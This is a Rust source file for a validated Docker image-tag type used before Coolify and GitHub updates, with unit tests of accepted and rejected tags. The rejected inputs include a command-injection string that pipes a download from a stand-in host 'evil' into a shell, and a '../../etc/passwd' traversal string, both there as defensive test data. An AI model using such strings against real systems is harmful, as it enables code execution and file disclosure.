//! A Docker image tag, validated once on construction: nothing else reaches Coolify's
//! `PATCH docker_registry_image_tag` or a GitHub record.
//!
//! The grammar is Docker's own, `[\w][\w.-]{0,127}` (distribution/reference, regexp.go line
//! 68 at 0965666a6ade2e06035fe352e38344be1e68951a, "From docker/docker:graph/tags.go"); Go's
//! RE2 `\w` is ASCII `[0-9A-Za-z_]`. Coolify's `ValidationPatterns` (since v4.1.2) applies the
//! same rule to the PATCH.

use std::fmt;

use serde::Serialize;

/// A tag that matches Docker's tag grammar.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
#[serde(transparent)]
pub struct ImageTag(String);

impl ImageTag {
    pub const MAX_LEN: usize = 128;

    /// The tag, or why `raw` is not one (the value shown with `{:?}`, so control characters
    /// stay visible and harmless).
    pub fn parse(raw: &str) -> Result<Self, String> {
        let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
        let bytes = raw.as_bytes();
        let valid = bytes.first().is_some_and(|&b| word(b))
            && bytes.len() <= Self::MAX_LEN
            && bytes.iter().all(|&b| word(b) || b == b'.' || b == b'-');
        if !valid {
            let shown: String = raw.chars().take(160).collect();
            return Err(format!(
                "{shown:?} is not a Docker image tag: 1 to 128 letters, digits, `_`, `.` and `-`, not starting with `.` or `-`"
            ));
        }
        Ok(Self(raw.to_owned()))
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for ImageTag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl AsRef<str> for ImageTag {
    fn as_ref(&self) -> &str {
        &self.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn docker_tag_grammar() {
        for good in [
            "latest",
            "v1.2.3",
            "main-0123456",
            "_x",
            "A",
            &"x".repeat(128),
        ] {
            assert_eq!(ImageTag::parse(good).map(|t| t.0), Ok(good.to_owned()));
        }
        for bad in [
            "",
            "-x",
            ".x",
            "a b",
            "a/b",
            "a:b",
            "x;curl evil|sh #",
            "../../etc/passwd",
            "é",
            "a\n",
            &"x".repeat(129),
        ] {
            assert!(ImageTag::parse(bad).is_err(), "{bad:?}");
        }
    }
}
